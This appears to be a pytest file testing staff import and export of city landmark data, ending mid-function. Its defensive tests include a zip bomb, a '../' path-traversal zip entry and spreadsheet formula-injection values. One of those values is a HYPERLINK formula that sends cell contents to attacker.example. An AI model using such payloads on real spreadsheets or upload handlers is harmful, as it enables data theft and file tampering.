"""Staff import and export (itinerary/transfer.py and its command line) on real files and databases.

Fixture uploads live in tests/fixtures/imports/: CSV files saved the way Excel saves "CSV UTF-8"
(BOM, CRLF), one with a bad row, a Windows-1252 one, a semicolon-separated one, GeoJSON files.
Every database test runs on SQLite and on PostgreSQL (``mini_db_url``).
"""

from __future__ import annotations

import csv
import dataclasses
import getpass
import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from argon2 import PasswordHasher

from itinerary import __main__ as cli
from itinerary import columns, curation, rules, seed, store, transfer
from itinerary.accounts import ADMIN, ALL_CITIES, EDITOR, Account, AccountStore
from itinerary.geocode import Geocoder
from itinerary.models import Dataset
from tests.conftest import DATA, ROOT
from tests.nominatim_standin import NominatimStandin

IMPORTS = ROOT / "tests" / "fixtures" / "imports"
ADA = Account("ada", ADMIN, frozenset({ALL_CITIES}))
EDDIE = Account("eddie", EDITOR, frozenset({"shenzhen"}))  # editor of Shenzhen
SAM = Account("sam", EDITOR, frozenset({"seattle"}))  # editor of Seattle

BAD_ROW_PROBLEMS = [
    "landmarks.csv:4: lat: '22,5445' is not a decimal number",
    "landmarks.csv:4: themes: unknown theme 'parks'",
    "landmarks.csv:4: visit_minutes: 'sixty' is not a whole number",
    "landmarks.csv:4: website: 'www.szcc.gov.cn' is not an http(s) URL",
    "landmarks.csv:4: wheelchair: 'maybe' is not one of yes, limited, no, unknown",
]


@pytest.fixture
def db(mini_db_url: str) -> Iterator[store.Store]:
    """The mini data set in a fresh database (a copy of the session's seeded template)."""
    s = store.open_store(mini_db_url)
    yield s
    s.engine.dispose()


def snapshot(db: store.Store) -> tuple[Dataset, int, int]:
    """Everything that an import could change: content, history rows, data version."""
    with db.engine.connect() as conn:
        history = conn.execute(sa.select(sa.func.count()).select_from(store.changes)).scalar_one()
    return db.dataset(), history, db.data_version()


def problems(plan: transfer.ImportPlan) -> list[str]:
    return [str(p) for p in plan.problems]


def landmark(db: store.Store, landmark_id: str) -> tuple[Any, int] | None:
    with db.engine.connect() as conn:
        return curation.read_landmark(conn, landmark_id)


def history(db: store.Store) -> list[tuple[str, str, str, int, str]]:
    with db.engine.connect() as conn:
        rows = conn.execute(
            sa.select(
                store.changes.c.entity,
                store.changes.c.entity_id,
                store.changes.c.action,
                store.changes.c.version,
                store.changes.c.username,
            ).order_by(store.changes.c.id)
        ).all()
    return [tuple(r) for r in rows]  # type: ignore[misc]


def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, raw in files.items():
            archive.writestr(name, raw)
    return buffer.getvalue()


# --- a spreadsheet with a bad row -------------------------------------------------------------


def test_excel_csv_with_a_bad_row_says_exactly_what_is_wrong_and_writes_nothing(db: store.Store) -> None:
    raw = (IMPORTS / "excel-bad-row" / "landmarks.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw  # saved like Excel's "CSV UTF-8"
    before = snapshot(db)

    plan = transfer.preview(db, transfer.read_upload("landmarks.csv", raw), EDDIE)

    assert problems(plan) == BAD_ROW_PROBLEMS
    assert not plan.ok
    with pytest.raises(transfer.PlanHasProblems):
        transfer.apply(db, plan, EDDIE)
    assert snapshot(db) == before


def test_the_same_spreadsheet_without_the_bad_row_lists_its_changes_field_by_field(db: store.Store) -> None:
    plan = transfer.preview(db, transfer.read_path(IMPORTS / "excel-good" / "landmarks.csv"), EDDIE)

    assert plan.ok, plan.report()
    assert plan.counts()["landmark"] == (1, 1, 0)
    [added] = plan.landmarks.added
    [changed] = plan.landmarks.changed
    assert (added.id, added.where, added.is_new, added.base_version) == (
        "shenzhen-bay-park",
        "landmarks.csv:3",
        True,
        None,
    )
    assert added.after["lat"] == 22.5089 and added.after["themes"] == ["nature", "green"]
    assert (
        added.after["summary"] == "A 15 km seaside park with mangroves, cycling paths and views of Hong Kong."
    )
    assert (changed.id, changed.where, changed.base_version) == (
        "ping-an-finance-center",
        "landmarks.csv:2",
        1,
    )
    assert [(c.field, c.before, c.after) for c in changed.changes] == [("visit_minutes", 90, 120)]

    summary = transfer.apply(db, plan, EDDIE)

    assert summary.counts["landmark"] == (1, 1, 0)
    assert summary.data_version == plan.data_version + 1  # one transaction
    assert landmark(db, "ping-an-finance-center") is not None
    found = landmark(db, "ping-an-finance-center")
    assert found is not None and found[0].visit_minutes == 120 and found[1] == 2
    assert history(db) == [
        ("landmark", "shenzhen-bay-park", "import", 1, "eddie"),
        ("landmark", "ping-an-finance-center", "import", 2, "eddie"),
    ]
    # importing the same file again changes nothing
    again = transfer.preview(db, transfer.read_path(IMPORTS / "excel-good" / "landmarks.csv"), EDDIE)
    assert again.ok and not again.rows and again.counts()["landmark"] == (0, 0, 2)


@pytest.mark.parametrize(
    ("fixture", "expected"),
    [
        (
            "windows-1252",
            ["landmarks.csv:2: -: file is not UTF-8 text (save it as CSV UTF-8); nothing loaded"],
        ),
        (
            "semicolons",
            [
                "landmarks.csv:1: -: columns are separated by semicolons, not commas: "
                "save as 'CSV UTF-8 (Comma delimited)'"
            ],
        ),
        ("unknown-landmark", ["itinerary_stops.csv:3: landmark_id: unknown landmark 'window-of-the-world'"]),
        (
            "geocode",
            [
                "landmarks.csv:2: lat: must not be empty (or leave lat and lon empty and look the address up)",
                "landmarks.csv:2: lon: must not be empty",
                "landmarks.csv:3: lat: must not be empty (or leave lat and lon empty and look the address up)",
                "landmarks.csv:3: lon: must not be empty",
            ],
        ),
    ],
)
def test_bad_uploads_are_reported_by_file_line_and_column(
    db: store.Store, fixture: str, expected: list[str]
) -> None:
    before = snapshot(db)
    plan = transfer.preview(db, transfer.read_path(IMPORTS / fixture), ADA)
    assert problems(plan) == expected
    assert snapshot(db) == before


# --- upload formats ---------------------------------------------------------------------------


GOOD = (IMPORTS / "excel-good" / "landmarks.csv").read_bytes()


@pytest.mark.parametrize(
    ("name", "data", "where"),
    [
        ("landmarks.csv", GOOD, "landmarks.csv:2"),
        ("Landmarks (1).csv", GOOD, "Landmarks (1).csv:2"),  # a browser's second download
        ("import.zip", zip_of({"landmarks.csv": GOOD}), "landmarks.csv:2"),
        (
            "export.zip",
            zip_of(
                {
                    "shenzhen/landmarks.csv": GOOD,
                    "__MACOSX/shenzhen/._landmarks.csv": b"\x00\x05\x16\x07",  # what macOS adds
                    "shenzhen/.DS_Store": b"\x00",
                }
            ),
            "shenzhen/landmarks.csv:2",
        ),
    ],
)
def test_upload_formats_give_the_same_plan(db: store.Store, name: str, data: bytes, where: str) -> None:
    plan = transfer.preview(db, transfer.read_upload(name, data), EDDIE)
    assert plan.ok, plan.report()
    assert [(r.id, r.where) for r in plan.rows] == [
        ("shenzhen-bay-park", where[:-1] + "3"),
        ("ping-an-finance-center", where),
    ]


def test_a_mapping_of_file_bytes_is_an_upload_too(db: store.Store) -> None:
    plan = transfer.preview(db, {"landmarks.csv": GOOD}, EDDIE)
    assert plan.ok and plan.counts()["landmark"] == (1, 1, 0)


def test_geojson_upload_is_converted_to_landmark_rows(db: store.Store) -> None:
    plan = transfer.preview(db, transfer.read_path(IMPORTS / "landmarks.geojson"), EDDIE)
    assert plan.ok, plan.report()
    [added] = plan.landmarks.added
    [changed] = plan.landmarks.changed
    assert (added.id, added.where) == ("shenzhen-bay-park", "landmarks.geojson:2")  # id from the feature
    assert (added.after["lat"], added.after["lon"], added.after["themes"]) == (
        22.5089,
        113.9447,
        ["nature", "green"],
    )
    assert added.after["status"] == "published" and added.after["visit_minutes"] == 90  # defaults applied
    assert [(c.field, c.after) for c in changed.changes] == [("name", "Lianhuashan Park (Lotus Hill)")]


def test_geojson_problems_are_located_by_feature_number(db: store.Store) -> None:
    plan = transfer.preview(db, transfer.read_path(IMPORTS / "bad-features.geojson"), EDDIE)
    expected = (
        "id, city_id, name, name_zh, lat, lon, themes, district, address, summary, summary_zh, visit_minutes,"
        " opening_hours, wheelchair, price, website, "
        + ", ".join(c.name for c in columns.ACCESS_COLUMNS)  # the access facts (issue 10)
        + ", status"
    )
    assert problems(plan) == [
        "bad-features.geojson:2: geometry: must be a Point with coordinates [lon, lat]",
        f"bad-features.geojson:3: colour: unknown property (expected: {expected})",
        "bad-features.geojson:3: lat: 114.0579 is out of range (-90 to 90)",
        "bad-features.geojson:3: name: must not be empty",
        "bad-features.geojson:4: id: duplicate id 'shenzhen-bay-park' (first in feature 1)",
    ]


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("notes.txt", b"hello", "notes.txt:0: -: not a data-contract file"),
        ("broken.zip", b"PK\x03\x04 not really", "broken.zip:0: -: not a readable zip file"),
        ("x.geojson", b'{"type": "Feature"}', "x.geojson:0: -: not a GeoJSON FeatureCollection"),
        ("x.geojson", b'{"type": ', "x.geojson:0: -: not valid JSON (line 1: Expecting value)"),
        ("up.zip", zip_of({"../landmarks.csv": GOOD}), "../landmarks.csv:0: -: unsafe path in zip"),
        (
            "up.zip",
            zip_of({"landmarks.csv": GOOD, "README.txt": b"hi"}),
            "README.txt:0: -: not a data-contract file",
        ),
        (
            "up.zip",
            zip_of({"a/landmarks.csv": GOOD, "b/landmarks.csv": GOOD}),
            "b/landmarks.csv:0: -: landmarks.csv given twice (also as a/landmarks.csv)",
        ),
        ("empty.zip", zip_of({}), "empty.zip:0: -: the zip holds no data-contract files"),
    ],
)
def test_unusable_uploads_are_reported(db: store.Store, name: str, data: bytes, expected: str) -> None:
    before = snapshot(db)
    plan = transfer.preview(db, transfer.read_upload(name, data), ADA)
    assert any(str(p).startswith(expected) for p in plan.problems), plan.report()
    with pytest.raises(transfer.PlanHasProblems):
        transfer.apply(db, plan, ADA)
    assert snapshot(db) == before


def test_zip_bombs_are_not_unpacked(db: store.Store, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transfer.reading, "MAX_FILE_BYTES", 10_000)
    bomb = zip_of({"landmarks.csv": b"id" + b"\n" * 1_000_000})  # about 1 KB compressed, 1 MB unpacked
    assert len(bomb) < 10_000
    upload = transfer.read_upload("bomb.zip", bomb)
    assert not upload.files
    assert [str(p) for p in upload.problems] == [
        "landmarks.csv:0: -: too large once unpacked (1,000,002 bytes); not read"
    ]
    # a header that lies about the size is caught while reading
    data = bytearray(bomb)
    header = data.index(b"PK\x01\x02")  # the central directory entry's uncompressed size
    data[header + 24 : header + 28] = (100).to_bytes(4, "little")
    data[22:26] = (100).to_bytes(4, "little")  # and the local header's
    upload = transfer.read_upload("bomb.zip", bytes(data))
    assert not upload.files and upload.problems


def test_oversized_upload_is_refused_before_reading(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transfer.reading, "MAX_UPLOAD_BYTES", 100)
    upload = transfer.read_upload("landmarks.csv", GOOD)
    assert [str(p) for p in upload.problems] == ["landmarks.csv:0: -: file is larger than 0 MB"]


# --- what an import may do -------------------------------------------------------------------


def test_stops_of_an_uploaded_itinerary_are_replaced(db: store.Store) -> None:
    plan = transfer.preview(db, transfer.read_path(IMPORTS / "stops-reordered"), EDDIE)
    assert plan.ok, plan.report()
    [row] = plan.itineraries.changed
    assert (row.id, row.where) == ("shenzhen-mini", "itinerary_stops.csv:2")
    assert [c.field for c in row.changes] == ["stops"]

    transfer.apply(db, plan, EDDIE)

    data = db.dataset()
    stops = [(s.itinerary_id, s.position, s.landmark_id, s.dwell_minutes, s.note) for s in data.stops]
    assert [s for s in stops if s[0] == "shenzhen-mini"] == [
        ("shenzhen-mini", 1, "huaqiang-north", 30, "Start with the market."),
        ("shenzhen-mini", 2, "lianhuashan-park", None, ""),
    ]
    assert [s[2] for s in stops if s[0] == "seattle-mini"] == ["pike-place-market", "space-needle"]
    it = next(i for i in data.itineraries if i.id == "shenzhen-mini")
    assert it.title == "Mini tour"  # fields not in the upload stay
    assert history(db) == [("itinerary", "shenzhen-mini", "import", 2, "eddie")]


def test_rows_absent_from_the_upload_stay(db: store.Store) -> None:
    ids_before = {lm.id for lm in db.dataset().landmarks}
    transfer.apply(db, transfer.preview(db, {"landmarks.csv": GOOD}, EDDIE), EDDIE)
    assert {lm.id for lm in db.dataset().landmarks} == ids_before | {"shenzhen-bay-park"}


def test_references_are_checked_against_upload_and_database(db: store.Store) -> None:
    itineraries = (
        "id,city_id,title,title_zh,theme_id,summary,summary_zh,mode,start_time,featured,status\n"
        "bay-walk,shenzhen,Bay walk,,nature,,,walk,08:00,no,published\n"
        "food-run,shenzhen,Food run,,snacks,,,walk,9:00,no,draft\n"
    )
    stops = (
        "itinerary_id,position,landmark_id,dwell_minutes,note,note_zh\n"
        "bay-walk,1,shenzhen-bay-park,,,\n"  # new in this upload
        "bay-walk,2,lianhuashan-park,,,\n"  # in the database
        "bay-walk,3,space-needle,,,\n"  # Seattle's
        "bay-walk,5,shenzhen-museum-draft,,,\n"  # a draft; position 4 missing
        "nowhere,1,lianhuashan-park,,,\n"
    )
    plan = transfer.preview(
        db,
        {
            "landmarks.csv": GOOD,
            "itineraries.csv": itineraries.encode(),
            "itinerary_stops.csv": stops.encode(),
        },
        EDDIE,
    )
    assert problems(plan) == [
        "itineraries.csv:3: start_time: '9:00' is not a 24-hour time HH:MM",
        "itineraries.csv:3: theme_id: unknown theme 'snacks'",
        "itinerary_stops.csv:4: landmark_id: landmark 'space-needle' is in 'seattle', not in the itinerary's city 'shenzhen'",
        "itinerary_stops.csv:5: position: positions of 'bay-walk' are [1, 2, 3, 5]; expected 1 to 4 without gaps",
        "itinerary_stops.csv:6: itinerary_id: unknown itinerary 'nowhere'",
    ]


def test_published_itinerary_rules_of_curation_hold_for_imports(db: store.Store) -> None:
    stops = (
        "itinerary_id,position,landmark_id,dwell_minutes,note,note_zh\n"
        "shenzhen-mini,1,lianhuashan-park,,,\n"
        "shenzhen-mini,2,shenzhen-museum-draft,,,\n"
    )
    plan = transfer.preview(db, {"itinerary_stops.csv": stops.encode()}, EDDIE)
    assert problems(plan) == [
        # the editor's words: one rule, one message (it used to be worded differently here)
        "itinerary_stops.csv:3: landmark_id: landmark 'shenzhen-museum-draft' is a draft: publish it first"
    ]
    lines = GOOD.decode("utf-8-sig").splitlines()
    archived = "\n".join([lines[0], lines[1].replace(",published", ",archived")]).encode()
    plan = transfer.preview(db, {"landmarks.csv": archived}, EDDIE)
    assert problems(plan) == [
        "landmarks.csv:2: status: archived but used by published itineraries: shenzhen-mini"
    ]


def test_a_landmark_cannot_move_to_another_city(db: store.Store) -> None:
    text = (
        GOOD.decode("utf-8-sig")
        .replace("ping-an-finance-center,shenzhen", "ping-an-finance-center,seattle")
        .replace("22.5366,114.0503", "47.61,-122.33")
    )
    plan = transfer.preview(db, {"landmarks.csv": text.encode()}, ADA)
    assert [str(p).split(":", 3)[:3] for p in plan.problems] == [["landmarks.csv", "2", " city_id"]]
    assert "belongs to 'shenzhen'" in plan.problems[0].message


# --- permissions ------------------------------------------------------------------------------


def test_editor_of_another_city_is_refused(db: store.Store) -> None:
    plan = transfer.preview(db, {"landmarks.csv": GOOD}, SAM)
    assert problems(plan) == [
        "landmarks.csv:2: city_id: sam may not import into 'shenzhen'",
        "landmarks.csv:3: city_id: sam may not import into 'shenzhen'",
    ]
    with pytest.raises(PermissionError):  # a plan made by someone else is checked again
        transfer.apply(db, transfer.preview(db, {"landmarks.csv": GOOD}, EDDIE), SAM)


def test_editor_may_not_change_themes_or_cities_but_may_reimport_them_unchanged(db: store.Store) -> None:
    files = transfer.export_files(db, "shenzhen")
    plan = transfer.preview(db, files, EDDIE)
    assert plan.ok, plan.report()
    assert not plan.rows
    assert plan.counts() == {
        "city": (0, 0, 1),
        "theme": (0, 0, 8),
        "landmark": (0, 0, 6),
        "itinerary": (0, 0, 2),
    }

    themes = files["themes.csv"].decode("utf-8-sig").replace("Innovation,创新科技", "Innovations,创新科技")
    cities = files["cities.csv"].decode("utf-8-sig") + "shekou,Shekou,,China,22.48,113.91,13,Asia/Shanghai\n"
    plan = transfer.preview(db, {"themes.csv": themes.encode(), "cities.csv": cities.encode()}, EDDIE)
    assert problems(plan) == [
        "cities.csv:3: id: eddie may not add city 'shekou' (administrators only)",
        "themes.csv:7: label: eddie may not change theme 'innovation' (administrators only)",
    ]
    plan = transfer.preview(db, {"themes.csv": themes.encode(), "cities.csv": cities.encode()}, ADA)
    assert plan.ok and plan.counts()["city"] == (1, 0, 1) and plan.counts()["theme"] == (0, 1, 7)
    with pytest.raises(PermissionError):
        transfer.apply(db, plan, EDDIE)
    transfer.apply(db, plan, ADA)
    data = db.dataset()
    assert "shekou" in {c.id for c in data.cities}
    assert next(t for t in data.themes if t.id == "innovation").label == "Innovations"


# --- all or nothing ---------------------------------------------------------------------------


def test_a_concurrent_edit_between_preview_and_apply_leaves_the_database_unchanged(db: store.Store) -> None:
    plan = transfer.preview(db, {"landmarks.csv": GOOD}, EDDIE)
    assert [r.id for r in plan.rows] == ["shenzhen-bay-park", "ping-an-finance-center"]  # added first
    # someone edits the second row after the preview
    lm, version = curation.Curator(db).landmark("ping-an-finance-center")
    curation.Curator(db).save_landmark(EDDIE, dataclasses.replace(lm, name="PAFC"), base_version=version)
    before = snapshot(db)
    written: list[tuple[int, int, str]] = []

    with pytest.raises(curation.Conflict, match="ping-an-finance-center"):
        transfer.apply(
            db, plan, EDDIE, progress=lambda done, total, label: written.append((done, total, label))
        )

    assert written == [(1, 2, "landmark shenzhen-bay-park")]  # the first row was written, then undone
    assert snapshot(db) == before
    assert landmark(db, "shenzhen-bay-park") is None


def test_a_changed_theme_between_preview_and_apply_is_a_conflict(db: store.Store) -> None:
    themes = "id,label,color\nfood,Food and drink,#e4572e\nnew-theme,New,#000000\n"
    plan = transfer.preview(db, {"themes.csv": themes.encode()}, ADA)
    assert plan.ok and [r.id for r in plan.rows] == ["new-theme", "food"]
    with db.transaction() as conn:
        conn.execute(store.themes.update().where(store.themes.c.id == "food").values(label="Eat"))
    before = snapshot(db)
    with pytest.raises(transfer.Stale, match="theme 'food' was changed since the preview"):
        transfer.apply(db, plan, ADA)
    assert snapshot(db) == before


def test_apply_reports_progress_per_row(db: store.Store) -> None:
    seen: list[tuple[int, int, str]] = []
    transfer.apply(
        db, transfer.preview(db, {"landmarks.csv": GOOD}, EDDIE), EDDIE, progress=lambda *a: seen.append(a)
    )
    assert seen == [(1, 2, "landmark shenzhen-bay-park"), (2, 2, "landmark ping-an-finance-center")]


# --- export and round trips -------------------------------------------------------------------


def archive_one(db: store.Store) -> None:
    """An archived landmark, so that exports show they carry every status."""
    with db.transaction() as conn:
        conn.execute(
            store.landmarks.update()
            .where(store.landmarks.c.id == "dongmen-night-snacks")
            .values(status="archived")
        )


def test_export_zip_holds_the_city_in_the_data_contract(db: store.Store) -> None:
    archive_one(db)
    data = transfer.export_zip(db, "shenzhen")
    assert data == transfer.export_zip(db, "shenzhen")  # same content, same bytes
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {info.filename: archive.read(info) for info in archive.infolist()}
    assert sorted(files) == [f"cityplus-shenzhen/{name}" for name in sorted(transfer.CONTRACT_FILES)]
    text = {name.split("/")[1]: raw.decode("utf-8-sig") for name, raw in files.items()}
    for spec in seed.SPECS:
        assert text[spec.name].splitlines()[0] == ",".join(spec.column_names)
    assert text["cities.csv"].splitlines()[1:] == [
        "shenzhen,Shenzhen,深圳,China,22.5431,114.0579,12,Asia/Shanghai,,,,,,platform,,,"
    ]
    assert len(text["themes.csv"].splitlines()) == 9  # every theme
    landmark_rows = text["landmarks.csv"].splitlines()[1:]
    assert {row.split(",")[0] for row in landmark_rows} >= {"shenzhen-museum-draft", "dongmen-night-snacks"}
    assert all(",shenzhen," in row for row in landmark_rows)
    assert text["itineraries.csv"].splitlines()[1:] == [
        "shenzhen-hidden,shenzhen,Hidden draft,,food,,,walk,10:00,no,draft",
        "shenzhen-mini,shenzhen,Mini tour,迷你游,,Three places in Futian.,福田三处地方。,walk,09:00,yes,published",
    ]
    assert text["itinerary_stops.csv"].splitlines()[1:] == [
        "shenzhen-mini,1,lianhuashan-park,60,Start at the top.,从山顶开始。",
        "shenzhen-mini,2,ping-an-finance-center,,,",
        "shenzhen-mini,3,huaqiang-north,45,Bring cash.,带现金。",
    ]
    # the unpacked export is a valid data folder on its own
    dataset = seed.load_files({name.split("/")[1]: raw for name, raw in files.items()})
    assert len(dataset.landmarks) == len(landmark_rows)


def test_export_round_trip_changes_nothing_and_rebuilds_identical_bytes(db: store.Store) -> None:
    archive_one(db)
    first = transfer.export_zip(db, "shenzhen")

    plan = transfer.preview(db, transfer.read_upload("shenzhen.zip", first), EDDIE)
    assert plan.ok and not plan.rows, plan.report()

    db.replace_all(Dataset((), (), (), (), ()))  # an empty database
    plan = transfer.preview(db, transfer.read_upload("shenzhen.zip", first), ADA)
    assert plan.ok, plan.report()
    assert plan.counts() == {
        "city": (1, 0, 0),
        "theme": (8, 0, 0),
        "landmark": (6, 0, 0),
        "itinerary": (2, 0, 0),
    }
    transfer.apply(db, plan, ADA)

    assert transfer.export_zip(db, "shenzhen") == first


def test_export_round_trip_of_the_shipped_content(sqlite_url: str) -> None:
    db = store.open_store(sqlite_url)
    db.replace_all(seed.load_dir(DATA))
    for city in db.dataset().cities:
        first = transfer.export_zip(db, city.id)
        plan = transfer.preview(db, transfer.read_upload("x.zip", first), ADA)
        assert plan.ok and not plan.rows, (city.id, plan.report())
        geo = transfer.export_geojson(db, city.id)
        plan = transfer.preview(db, transfer.read_upload("x.geojson", geo), ADA)
        assert plan.ok and not plan.rows, (city.id, plan.report())


def test_geojson_round_trip(db: store.Store) -> None:
    archive_one(db)
    first = transfer.export_geojson(db, "shenzhen")
    doc = json.loads(first)
    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == 6
    ping = next(f for f in doc["features"] if f["id"] == "ping-an-finance-center")
    assert ping["geometry"] == {"type": "Point", "coordinates": [114.0503, 22.5366]}  # [lon, lat]
    assert ping["properties"]["themes"] == "innovation;shopping" and ping["properties"]["visit_minutes"] == 90
    assert "lat" not in ping["properties"]

    plan = transfer.preview(db, transfer.read_upload("shenzhen.geojson", first), EDDIE)
    assert plan.ok and not plan.rows, plan.report()

    cities_and_themes = {
        k: v for k, v in transfer.export_files(db, "shenzhen").items() if k in ("cities.csv", "themes.csv")
    }
    db.replace_all(Dataset((), (), (), (), ()))
    transfer.apply(db, transfer.preview(db, cities_and_themes, ADA), ADA)
    plan = transfer.preview(db, transfer.read_upload("shenzhen.geojson", first), ADA)
    assert plan.ok and plan.counts()["landmark"] == (6, 0, 0)
    transfer.apply(db, plan, ADA)
    assert transfer.export_geojson(db, "shenzhen") == first


def test_export_of_an_unknown_city(db: store.Store) -> None:
    with pytest.raises(transfer.UnknownCity, match="unknown city 'atlantis' \\(known: seattle, shenzhen\\)"):
        transfer.export_zip(db, "atlantis")


# --- batch geocoding --------------------------------------------------------------------------


@pytest.fixture
def standin() -> Iterator[NominatimStandin]:
    with NominatimStandin() as server:
        yield server


def geocoder(server: NominatimStandin) -> Geocoder:
    return Geocoder(domain=server.domain, scheme="http", enabled=True, min_delay_seconds=0)


def test_batch_geocoding_fills_coordinates_and_reports_a_failing_row(
    db: store.Store, standin: NominatimStandin
) -> None:
    seen: list[tuple[int, int, str]] = []
    upload = transfer.read_path(IMPORTS / "geocode" / "landmarks.csv")

    plan = transfer.preview(db, upload, EDDIE, geocoder=geocoder(standin), progress=lambda *a: seen.append(a))

    assert seen == [(1, 2, "Huaqiang North"), (2, 2, "1 Nowhere Lane")]
    assert problems(plan) == [
        "landmarks.csv:3: address: no place found for this address; lat and lon are empty: enter them"
    ]
    assert plan.geocoded == [
        transfer.Geocoded(
            "landmarks.csv:2",
            "huaqiangbei-electronics",
            "Huaqiang North",
            22.5461,
            114.0851,
            "Huaqiang North Road, Huaqiangbei Subdistrict, Futian District, Shenzhen, China",
        )
    ]
    [request, _] = standin.search_requests()
    assert request.params["q"] == "Huaqiang North" and request.params["bounded"] == "1"

    # without the failing row the import applies, with the coordinates found
    rows = (IMPORTS / "geocode" / "landmarks.csv").read_bytes().split(b"\r\n")
    plan = transfer.preview(db, {"landmarks.csv": b"\r\n".join(rows[:2])}, EDDIE, geocoder=geocoder(standin))
    assert plan.ok, plan.report()
    transfer.apply(db, plan, EDDIE)
    found = landmark(db, "huaqiangbei-electronics")
    assert found is not None and (found[0].lat, found[0].lon) == (22.5461, 114.0851)


def test_batch_geocoding_when_the_server_fails(db: store.Store, standin: NominatimStandin) -> None:
    standin.behaviour = "failing"
    plan = transfer.preview(db, transfer.read_path(IMPORTS / "geocode"), EDDIE, geocoder=geocoder(standin))
    assert problems(plan) == [
        f"landmarks.csv:{line}: address: address lookup failed (server error); lat and lon are empty: "
        "try again or enter them"
        for line in (2, 3)
    ]


# --- command line -----------------------------------------------------------------------------


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_cli_import_of_a_bad_spreadsheet_prints_every_problem_and_writes_nothing(
    db: store.Store, capsys: pytest.CaptureFixture[str]
) -> None:
    before = snapshot(db)
    code, out, err = run_cli(
        capsys, "import", str(IMPORTS / "excel-bad-row" / "landmarks.csv"), "--db-url", db.url
    )
    assert code == 1
    assert out.splitlines() == ["read landmarks.csv", *BAD_ROW_PROBLEMS]
    assert err == "5 problem(s); nothing was written.\n"
    assert snapshot(db) == before


def test_cli_import_dry_run_then_apply(db: store.Store, capsys: pytest.CaptureFixture[str]) -> None:
    path = str(IMPORTS / "excel-good")
    before = snapshot(db)
    code, out, _ = run_cli(capsys, "import", path, "--db-url", db.url, "--dry-run")
    assert code == 0
    assert out.splitlines() == [
        "read landmarks.csv",
        "landmarks.csv:3: add landmark shenzhen-bay-park",
        "landmarks.csv:2: change landmark ping-an-finance-center: visit_minutes",
        "dry run, nothing written: cities: 0 added, 0 changed, 0 unchanged; themes: 0 added, 0 changed, "
        "0 unchanged; landmarks: 1 added, 1 changed, 0 unchanged; itineraries: 0 added, 0 changed, 0 unchanged",
    ]
    assert snapshot(db) == before

    code, out, _ = run_cli(capsys, "import", path, "--db-url", db.url)
    assert code == 0
    assert out.splitlines()[-1].endswith(
        f"imported by cli:{getpass.getuser()}: cities: 0 added, 0 changed, 0 unchanged; themes: 0 added, "
        "0 changed, 0 unchanged; landmarks: 1 added, 1 changed, 0 unchanged; itineraries: 0 added, 0 changed, "
        "0 unchanged"
    )
    assert {h[4] for h in history(db)} == {f"cli:{getpass.getuser()}"}


def test_cli_import_as_a_staff_account(db: store.Store, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run_cli(capsys, "import", str(IMPORTS / "excel-good"), "--db-url", db.url, "--as", "ada")
    assert (code, err) == (2, "no staff account 'ada' (see: python -m itinerary user list)\n")
    AccountStore(db, hasher=PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)).add(
        "ada", "correct horse battery", ADMIN
    )
    code, _, _ = run_cli(capsys, "import", str(IMPORTS / "excel-good"), "--db-url", db.url, "--as", "ada")
    assert code == 0
    assert {h[4] for h in history(db)} == {"ada"}


def test_cli_export_and_errors(db: store.Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run_cli(capsys, "export", "shenzhen", str(tmp_path / "sz.zip"), "--db-url", db.url)
    assert code == 0 and out.startswith(f"{tmp_path / 'sz.zip'}: shenzhen as zip (")
    assert (tmp_path / "sz.zip").read_bytes() == transfer.export_zip(db, "shenzhen")
    code, _, _ = run_cli(capsys, "export", "shenzhen", str(tmp_path / "sz.geojson"), "--db-url", db.url)
    assert code == 0 and (tmp_path / "sz.geojson").read_bytes() == transfer.export_geojson(db, "shenzhen")
    code, _, err = run_cli(capsys, "export", "atlantis", str(tmp_path / "a.zip"), "--db-url", db.url)
    assert (code, err) == (2, "unknown city 'atlantis' (known: seattle, shenzhen)\n")
    assert not (tmp_path / "a.zip").exists()
    code, out, _ = run_cli(capsys, "import", str(tmp_path / "missing.zip"), "--db-url", db.url)
    assert code == 1 and f"{tmp_path / 'missing.zip'}:0: -: no such file or folder" in out


def test_cli_export_and_import_as_processes(mini_dir: Path, sqlite_url: str, tmp_path: Path) -> None:
    """Scheduled backups run the real command with CITYPLUS_DB_URL; a restore imports the zip."""
    db = store.open_store(sqlite_url)
    db.replace_all(seed.load_dir(mini_dir))
    env = {**os.environ, "CITYPLUS_DB_URL": db.url, "PYTHONPATH": str(ROOT)}
    target = tmp_path / "backup.zip"

    def run(*argv: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "itinerary", *argv],
            env=env,
            cwd=ROOT,
            capture_output=True,
            text=True,
            check=False,
        )

    done = run("export", "shenzhen", str(target))
    assert done.returncode == 0, done.stderr
    done = run("import", str(target))
    assert done.returncode == 0, done.stderr
    assert "landmarks: 0 added, 0 changed, 6 unchanged" in done.stdout
    done = run("import", str(IMPORTS / "excel-bad-row" / "landmarks.csv"))
    assert done.returncode == 1
    assert done.stdout.splitlines()[1:] == BAD_ROW_PROBLEMS


# --- formula cells: guarded in the export, real text after the import ---------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "name_zh": "+1",
    "district": "-x",
    "address": "@x",
    "summary": "'=already quoted by hand",
}


def plant_formulas(db: store.Store) -> None:
    """Text that a spreadsheet would run, in a landmark, an itinerary and a stop."""
    with db.transaction() as conn:
        conn.execute(
            store.landmarks.update()
            .where(store.landmarks.c.id == "ping-an-finance-center")
            .values(**FORMULAS)
        )
        conn.execute(
            store.itineraries.update()
            .where(store.itineraries.c.id == "shenzhen-mini")
            .values(title="@SUM(A1:A9)")
        )
        conn.execute(
